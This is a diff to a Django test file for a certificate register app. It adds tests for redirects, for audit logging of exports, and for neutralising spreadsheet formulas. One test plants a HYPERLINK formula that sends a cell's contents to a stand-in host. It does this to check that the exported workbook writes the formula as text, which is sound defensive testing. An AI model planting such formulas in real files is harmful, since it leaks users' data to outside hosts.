@@ -12,6 +12,7 @@ from django.test import Client
 from django.test.utils import CaptureQueriesContext
 from django.utils import timezone
 
+from diemtua.audit.models import Entry
 from diemtua.credentials import actions, queries
 from diemtua.credentials.models import Certificate
 from diemtua.credentials.proof.checking import Reason, check_file
@@ -76,6 +77,11 @@ def test_a_code_typed_carelessly_leads_to_its_page(cast, client) -> None:
     assert client.get("/chung-nhan/", {"ma": typed}).headers["Location"] == f"/chung-nhan/{code}"
     assert client.get(f"/chung-nhan/{code.lower()}").headers["Location"] == f"/chung-nhan/{code}"
     assert client.get("/en/certificate/", {"ma": typed}).headers["Location"] == f"/en/certificate/{code}"
+
+
+@pytest.mark.parametrize("nothing", ["-", "---", "..."])
+def test_a_code_of_no_letters_leads_to_where_one_is_typed(db, client, nothing) -> None:
+    assert client.get(f"/chung-nhan/{nothing}").headers["Location"] == "/chung-nhan/"
 
 
 def test_an_unknown_code_is_a_404_with_advice(db, client) -> None:
@@ -259,6 +265,21 @@ def test_the_register_workbook_holds_every_number_in_order(cast, as_) -> None:
     assert [(r[0], r[2], r[8], r[10]) for r in rows[1:]] == [
         (1.0, "Trần Thị Hòa", 87.0, "Còn hiệu lực"),
         (2.0, "Đặng Thùy Linh", 87.0, "Đã thu hồi"),
+    ]
+
+
+def test_what_leaves_the_register_is_noted_and_a_formula_in_it_is_text(cast, as_) -> None:
+    certificate = make_certificate(cast)
+    formula = '=HYPERLINK("http://x.example/?"&C2,"Tập huấn")'
+    Certificate.objects.update(printed=certificate.printed | {"course": formula})
+    file = as_(cast.binh).get("/so-chung-nhan/so-cap.xlsx").getvalue()
+    sheet = zipfile.ZipFile(io.BytesIO(file)).read("xl/worksheets/sheet1.xml")
+    assert (b"HYPERLINK" in sheet, b"<f>" in sheet) == (True, False)
+    b"".join(as_(cast.binh).get(f"/so-chung-nhan/lop/{certificate.training_class_id}/tat-ca.zip").streaming_content)
+    noted = Entry.objects.filter(action__startswith="credentials.export").order_by("pk")
+    assert [(e.action, e.actor_id, e.detail) for e in noted] == [
+        ("credentials.export_register", cast.binh.pk, {"rows": 1}),
+        ("credentials.export_class", cast.binh.pk, {"rows": 1}),
     ]
 
 
